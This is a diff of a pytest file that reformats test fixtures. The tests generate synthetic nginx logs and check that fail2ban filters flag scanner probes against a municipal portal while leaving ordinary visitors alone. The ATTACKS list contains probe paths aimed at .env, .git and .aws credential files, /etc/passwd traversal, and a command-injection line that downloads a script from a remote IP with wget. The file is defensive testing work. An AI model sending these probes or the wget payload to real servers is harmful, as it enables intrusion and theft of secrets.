@@ -38,54 +38,118 @@ JA = "%E5%85%90%E7%AB%A5%E7%A6%8F%E7%A5%89"  # 児童福祉, as a browser sends 
 
 # (method, path, status, weight): what one person's request can be.
 VISITS = [
-    ("GET", "/", 200, 30), ("GET", "/news/", 200, 15), ("GET", "/news/2026/11/kaigi-kaisai/", 200, 10),
-    ("GET", "/news/?page=2", 200, 3), ("GET", "/static/css/portal.css", 200, 20), ("GET", "/static/css/portal.css", 304, 20),
-    ("GET", "/static/js/menu.js", 200, 10), ("GET", "/media/images/kodomo.width-800.jpg", 200, 8),
-    ("GET", "/login/", 200, 12), ("POST", "/login/", 302, 10), ("POST", "/login/", 200, 6),  # a typo: the form again
+    ("GET", "/", 200, 30),
+    ("GET", "/news/", 200, 15),
+    ("GET", "/news/2026/11/kaigi-kaisai/", 200, 10),
+    ("GET", "/news/?page=2", 200, 3),
+    ("GET", "/static/css/portal.css", 200, 20),
+    ("GET", "/static/css/portal.css", 304, 20),
+    ("GET", "/static/js/menu.js", 200, 10),
+    ("GET", "/media/images/kodomo.width-800.jpg", 200, 8),
+    ("GET", "/login/", 200, 12),
+    ("POST", "/login/", 302, 10),
+    ("POST", "/login/", 200, 6),  # a typo: the form again
     ("POST", "/login/", 429, 1),  # the app slowed the gateway's address (decision 0017)
-    ("GET", "/login/totp/", 200, 1), ("POST", "/login/totp/", 302, 1), ("POST", "/logout/", 302, 3),
-    ("GET", "/members/", 200, 15), ("GET", "/members/roundtables/?tag=" + JA, 200, 4),
-    ("GET", "/members/initiatives/", 200, 4), ("GET", "/members/images/3f9a2c4be1d04f0a9b7c2d1e0f6a5b4c.jpg", 200, 8),
-    ("GET", "/documents/12/%E8%B3%87%E6%96%99.pdf", 200, 6), ("GET", "/documents/31/roundtable.mp4", 206, 4),
-    ("GET", "/documents/40/roster.xlsx", 200, 1), ("GET", "/documents/41/handout.pptx", 200, 1),
-    ("GET", "/search/?q=" + JA, 200, 5), ("GET", "/feed.atom", 200, 2), ("GET", "/sitemap.xml", 200, 1),
-    ("GET", "/account/", 200, 2), ("POST", "/account/", 302, 1),
-    ("GET", "/password-reset/", 200, 1), ("POST", "/password-reset/", 302, 1), ("POST", "/password-reset/", 429, 1),
-    ("GET", "/members/tips/", 200, 4), ("POST", "/members/tips/3/", 302, 2), ("POST", "/members/feedback/", 302, 1),
+    ("GET", "/login/totp/", 200, 1),
+    ("POST", "/login/totp/", 302, 1),
+    ("POST", "/logout/", 302, 3),
+    ("GET", "/members/", 200, 15),
+    ("GET", "/members/roundtables/?tag=" + JA, 200, 4),
+    ("GET", "/members/initiatives/", 200, 4),
+    ("GET", "/members/images/3f9a2c4be1d04f0a9b7c2d1e0f6a5b4c.jpg", 200, 8),
+    ("GET", "/documents/12/%E8%B3%87%E6%96%99.pdf", 200, 6),
+    ("GET", "/documents/31/roundtable.mp4", 206, 4),
+    ("GET", "/documents/40/roster.xlsx", 200, 1),
+    ("GET", "/documents/41/handout.pptx", 200, 1),
+    ("GET", "/search/?q=" + JA, 200, 5),
+    ("GET", "/feed.atom", 200, 2),
+    ("GET", "/sitemap.xml", 200, 1),
+    ("GET", "/account/", 200, 2),
+    ("POST", "/account/", 302, 1),
+    ("GET", "/password-reset/", 200, 1),
+    ("POST", "/password-reset/", 302, 1),
+    ("POST", "/password-reset/", 429, 1),
+    ("GET", "/members/tips/", 200, 4),
+    ("POST", "/members/tips/3/", 302, 2),
+    ("POST", "/members/feedback/", 302, 1),
     ("POST", "/members/tips/3/", 413, 1),
     # 404s of real users: old bookmarks, typos, browser habits.
-    ("GET", "/favicon.ico", 404, 6), ("GET", "/apple-touch-icon.png", 404, 2), ("GET", "/apple-touch-icon-precomposed.png", 404, 2),
-    ("GET", "/robots.txt", 200, 1), ("GET", "/news/2019/%E5%8F%A4%E3%81%84%E3%81%8A%E7%9F%A5%E3%82%89%E3%81%9B/", 404, 2),
-    ("GET", "/members/old-page/", 404, 2), ("GET", "/documents/999/old.pdf", 404, 1), ("GET", "/index.html", 404, 1),
-    ("GET", "/top.html", 404, 1), ("GET", "/static/css/old-portal.css", 404, 1), ("GET", "/.well-known/security.txt", 404, 1),
-    ("GET", "/.well-known/change-password", 404, 1), ("GET", "/news/2026/11/kaigi-kaisai", 301, 1),
-    ("GET", "/members/tips/3/?page=999", 404, 1), ("HEAD", "/", 200, 1),
-    ("GET", "/", 502, 1), ("GET", "/members/", 503, 1),  # a deploy
+    ("GET", "/favicon.ico", 404, 6),
+    ("GET", "/apple-touch-icon.png", 404, 2),
+    ("GET", "/apple-touch-icon-precomposed.png", 404, 2),
+    ("GET", "/robots.txt", 200, 1),
+    ("GET", "/news/2019/%E5%8F%A4%E3%81%84%E3%81%8A%E7%9F%A5%E3%82%89%E3%81%9B/", 404, 2),
+    ("GET", "/members/old-page/", 404, 2),
+    ("GET", "/documents/999/old.pdf", 404, 1),
+    ("GET", "/index.html", 404, 1),
+    ("GET", "/top.html", 404, 1),
+    ("GET", "/static/css/old-portal.css", 404, 1),
+    ("GET", "/.well-known/security.txt", 404, 1),
+    ("GET", "/.well-known/change-password", 404, 1),
+    ("GET", "/news/2026/11/kaigi-kaisai", 301, 1),
+    ("GET", "/members/tips/3/?page=999", 404, 1),
+    ("HEAD", "/", 200, 1),
+    ("GET", "/", 502, 1),
+    ("GET", "/members/", 503, 1),  # a deploy
 ]
 ADMIN_VISITS = [
-    ("GET", "/admin/", 200, 10), ("GET", "/admin/pages/12/edit/", 200, 6), ("POST", "/admin/pages/12/edit/preview/", 200, 10),
-    ("POST", "/admin/pages/12/edit/", 302, 3), ("POST", "/admin/documents/multiple/add/", 200, 2),
-    ("POST", "/admin/images/multiple/add/", 200, 2), ("GET", "/admin/meetings/", 200, 2),
-    ("POST", "/admin/local-government-accounts/import/", 200, 1), ("GET", "/django-admin/core/auditevent/", 200, 1),
+    ("GET", "/admin/", 200, 10),
+    ("GET", "/admin/pages/12/edit/", 200, 6),
+    ("POST", "/admin/pages/12/edit/preview/", 200, 10),
+    ("POST", "/admin/pages/12/edit/", 302, 3),
+    ("POST", "/admin/documents/multiple/add/", 200, 2),
+    ("POST", "/admin/images/multiple/add/", 200, 2),
+    ("GET", "/admin/meetings/", 200, 2),
+    ("POST", "/admin/local-government-accounts/import/", 200, 1),
+    ("GET", "/django-admin/core/auditevent/", 200, 1),
     ("POST", "/admin/documents/multiple/add/", 413, 1),
 ]
 
 ATTACKS = [
-    ("GET", "/wp-login.php", 404), ("GET", "/wp-admin/setup-config.php", 404), ("POST", "/xmlrpc.php", 404),
-    ("GET", "/.env", 404), ("GET", "/api/.env", 404), ("GET", "/.git/config", 404), ("GET", "/.git/HEAD", 404),
-    ("GET", "/phpmyadmin/index.php", 404), ("GET", "/pma/", 404), ("GET", "/cgi-bin/luci/;stok=/locale", 404),
-    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404), ("POST", "/boaform/admin/formLogin", 404),
-    ("GET", "/HNAP1/", 404), ("GET", "/actuator/env", 404), ("GET", "/server-status", 404), ("GET", "/manager/html", 404),
-    ("GET", "/solr/admin/info/system?wt=json", 404), ("GET", "/owa/auth/logon.aspx", 404), ("GET", "/remote/login?lang=en", 404),
-    ("GET", "/+CSCOE+/logon.html", 404), ("POST", "/_ignition/execute-solution", 404), ("POST", "/api/jsonws/invoke", 404),
-    ("GET", "/static/../../../../etc/passwd", 400), ("GET", "/%2e%2e/%2e%2e/etc/passwd", 400),
+    ("GET", "/wp-login.php", 404),
+    ("GET", "/wp-admin/setup-config.php", 404),
+    ("POST", "/xmlrpc.php", 404),
+    ("GET", "/.env", 404),
+    ("GET", "/api/.env", 404),
+    ("GET", "/.git/config", 404),
+    ("GET", "/.git/HEAD", 404),
+    ("GET", "/phpmyadmin/index.php", 404),
+    ("GET", "/pma/", 404),
+    ("GET", "/cgi-bin/luci/;stok=/locale", 404),
+    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
+    ("POST", "/boaform/admin/formLogin", 404),
+    ("GET", "/HNAP1/", 404),
+    ("GET", "/actuator/env", 404),
+    ("GET", "/server-status", 404),
+    ("GET", "/manager/html", 404),
+    ("GET", "/solr/admin/info/system?wt=json", 404),
+    ("GET", "/owa/auth/logon.aspx", 404),
+    ("GET", "/remote/login?lang=en", 404),
+    ("GET", "/+CSCOE+/logon.html", 404),
+    ("POST", "/_ignition/execute-solution", 404),
+    ("POST", "/api/jsonws/invoke", 404),
+    ("GET", "/static/../../../../etc/passwd", 400),
+    ("GET", "/%2e%2e/%2e%2e/etc/passwd", 400),
     ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array", 404),
-    ("GET", "/config.php.bak", 404), ("GET", "/backup.sql", 404), ("GET", "/.aws/credentials", 404), ("GET", "/.DS_Store", 404),
-    ("GET", "/docker-compose.yml", 404), ("GET", "/shell?cd+/tmp;wget+http://198.51.100.66/x.sh", 404),
-    ("GET", "/console/login/LoginForm.jsp", 404), ("GET", "/jenkins/login", 404), ("GET", "/struts2-showcase/index.action", 404),
-    ("GET", "/.htaccess", 404), ("GET", "/.svn/entries", 404), ("GET", "/wp-content/plugins/revslider/temp/update_extract/x.php", 404),
-    ("GET", "/test.cgi", 404), ("GET", "/login.action", 404), ("GET", "/index.jsp", 404), ("GET", "/admin/config.php", 404),
-    ("PROPFIND", "/webdav/", 404), ("GET", "/.vscode/sftp.json", 404), ("GET", "/wp-json/wp/v2/users", 404),
+    ("GET", "/config.php.bak", 404),
+    ("GET", "/backup.sql", 404),
+    ("GET", "/.aws/credentials", 404),
+    ("GET", "/.DS_Store", 404),
+    ("GET", "/docker-compose.yml", 404),
+    ("GET", "/shell?cd+/tmp;wget+http://198.51.100.66/x.sh", 404),
+    ("GET", "/console/login/LoginForm.jsp", 404),
+    ("GET", "/jenkins/login", 404),
+    ("GET", "/struts2-showcase/index.action", 404),
+    ("GET", "/.htaccess", 404),
+    ("GET", "/.svn/entries", 404),
+    ("GET", "/wp-content/plugins/revslider/temp/update_extract/x.php", 404),
+    ("GET", "/test.cgi", 404),
+    ("GET", "/login.action", 404),
+    ("GET", "/index.jsp", 404),
+    ("GET", "/admin/config.php", 404),
+    ("PROPFIND", "/webdav/", 404),
+    ("GET", "/.vscode/sftp.json", 404),
+    ("GET", "/wp-json/wp/v2/users", 404),
 ]
 
 
@@ -115,13 +179,22 @@ def municipal_day(lines: int = 12_500, seed: int = 20261207) -> list[str]:
             agent = BROWSERS[0]
         elif roll < 0.11:
             address, agent = "66.249.66.1", CRAWLER
-            method, path, status = rng.choice([("GET", "/robots.txt", 200), ("GET", "/", 200), ("GET", "/news/", 200),
-                                                ("GET", "/sitemap.xml", 200), ("GET", "/members/", 302)])
+            method, path, status = rng.choice(
+                [
+                    ("GET", "/robots.txt", 200),
+                    ("GET", "/", 200),
+                    ("GET", "/news/", 200),
+                    ("GET", "/sitemap.xml", 200),
+                    ("GET", "/members/", 302),
+                ]
+            )
         else:
             address = rng.choice(GATEWAYS) if roll < 0.85 else rng.choice(OWN_ADDRESSES)
             method, path, status = rng.choices(choices, weights)[0]
             agent = rng.choice(BROWSERS)
-        referrer = rng.choice(["-", f"{SITE}/", f"{SITE}/members/", f"{SITE}/news/", "https://www.example.lg.jp/kosodate/"])
+        referrer = rng.choice(
+            ["-", f"{SITE}/", f"{SITE}/members/", f"{SITE}/news/", "https://www.example.lg.jp/kosodate/"]
+        )
         out.append(combined(address, when, method, path, status, rng.randint(0, 90_000), referrer, agent))
     return out
 
@@ -131,7 +204,9 @@ def attack_log() -> list[str]:
     out = []
     for n, (method, path, status) in enumerate(ATTACKS):
         address = ["45.148.10.7", "2001:db8:bad::7", "203.0.113.200"][n % 3]
-        out.append(combined(address, when + timedelta(seconds=n), method, path, status, 162, "-", "Mozilla/5.0 zgrab/0.x"))
+        out.append(
+            combined(address, when + timedelta(seconds=n), method, path, status, 162, "-", "Mozilla/5.0 zgrab/0.x")
+        )
     out.append(combined("45.148.10.7", when, "CONNECT", "www.example.com:443", 400, 0, "-", "-"))
     out.append(combined("45.148.10.7", when, "GET", "http://www.example.com/", 400, 0, "-", "-"))
     return out
@@ -144,19 +219,27 @@ def refused_log() -> list[str]:
     for n in range(60):
         stamp = (when + timedelta(milliseconds=40 * n)).isoformat(timespec="seconds")
         limit = "REJECTED/-" if n % 4 else "-/REJECTED"
-        out.append(f'{stamp} client=198.51.100.99 status=429 limit={limit} host="portal.example.go.jp" '
-                   f'request="POST /login/" request_id=0{n:031x}')
+        out.append(
+            f'{stamp} client=198.51.100.99 status=429 limit={limit} host="portal.example.go.jp" '
+            f'request="POST /login/" request_id=0{n:031x}'
+        )
     for n in range(10):
         stamp = (when + timedelta(seconds=n)).isoformat(timespec="seconds")
-        out.append(f'{stamp} client=2001:db8:bad::9 status=444 limit=-/- host="203.0.113.1" '
-                   f'request="GET /" request_id=0{n:031x}')
+        out.append(
+            f'{stamp} client=2001:db8:bad::9 status=444 limit=-/- host="203.0.113.1" '
+            f'request="GET /" request_id=0{n:031x}'
+        )
     return out
 
 
 def regex_counts(log: Path, filter_name: str) -> tuple[int, int]:
     """(lines, matched) as fail2ban-regex counts them with the filter file of deploy/fail2ban/."""
-    result = subprocess.run([fail2ban_regex(), str(log), str(FAIL2BAN / "filter.d" / f"{filter_name}.conf")],
-                            capture_output=True, text=True, timeout=300)
+    result = subprocess.run(
+        [fail2ban_regex(), str(log), str(FAIL2BAN / "filter.d" / f"{filter_name}.conf")],
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
     assert result.returncode == 0, result.stdout + result.stderr
     found = re.search(r"^Lines: (\d+) lines, (\d+) ignored, (\d+) matched, (\d+) missed", result.stdout, re.M)
     assert found, result.stdout
@@ -168,8 +251,11 @@ def regex_counts(log: Path, filter_name: str) -> tuple[int, int]:
 @pytest.fixture(scope="module")
 def logs(tmp_path_factory):
     folder = tmp_path_factory.mktemp("fail2ban")
-    paths = {"benign": folder / "municipal-access.log", "scan": folder / "scan-access.log",
-             "refused": folder / "refused.log"}
+    paths = {
+        "benign": folder / "municipal-access.log",
+        "scan": folder / "scan-access.log",
+        "refused": folder / "refused.log",
+    }
     paths["benign"].write_text("\n".join(municipal_day()) + "\n", encoding="utf-8")
     paths["scan"].write_text("\n".join(attack_log()) + "\n", encoding="utf-8")
     paths["refused"].write_text("\n".join(refused_log()) + "\n", encoding="utf-8")
@@ -195,9 +281,18 @@ def test_each_filter_matches_every_attack_line_and_no_municipal_line(logs, filte
 
 def test_the_scan_filter_misses_what_nginx_logs_for_real_people(logs, tmp_path):
     """Lines as the JSON-less combined log has them for the portal's own paths: none match."""
-    ordinary = [combined("203.0.113.10", datetime(2026, 12, 7, 9, tzinfo=JST), "GET", path, 404, 10, "-", BROWSERS[0])
-                for path in ("/documents/12/report.pdf", "/members/images/a1b2.png", "/static/wagtailadmin/js/core.js",
-                             "/admin/login/", "/login/?next=/admin/", "/.well-known/acme-challenge/x", "/feed.atom")]
+    ordinary = [
+        combined("203.0.113.10", datetime(2026, 12, 7, 9, tzinfo=JST), "GET", path, 404, 10, "-", BROWSERS[0])
+        for path in (
+            "/documents/12/report.pdf",
+            "/members/images/a1b2.png",
+            "/static/wagtailadmin/js/core.js",
+            "/admin/login/",
+            "/login/?next=/admin/",
+            "/.well-known/acme-challenge/x",
+            "/feed.atom",
+        )
+    ]
     log = tmp_path / "ordinary.log"
     log.write_text("\n".join(ordinary) + "\n", encoding="utf-8")
     assert regex_counts(log, "kokasen-scan") == (len(ordinary), 0)
@@ -218,8 +313,13 @@ def test_the_jails_load_with_debians_fail2ban(tmp_path):
     jail = (FAIL2BAN / "jail.d" / "kokasen.conf").read_text(encoding="utf-8")
     assert jail.count("/var/log/nginx/kokasen/") == 2
     (conf / "jail.d" / "kokasen.conf").write_text(jail.replace("/var/log/nginx/kokasen/", f"{logs_dir}/"))
-    result = subprocess.run([client, "-c", str(conf), "-t"], capture_output=True, text=True, timeout=120,
-                            env={**os.environ, "LANG": "C.UTF-8"})
+    result = subprocess.run(
+        [client, "-c", str(conf), "-t"],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env={**os.environ, "LANG": "C.UTF-8"},
+    )
     assert "OK: configuration test is successful" in result.stdout + result.stderr, result.stdout + result.stderr
     dump = subprocess.run([client, "-c", str(conf), "-d"], capture_output=True, text=True, timeout=120).stdout
     jails = set(re.findall(r"\['add', '([\w-]+)'", dump))
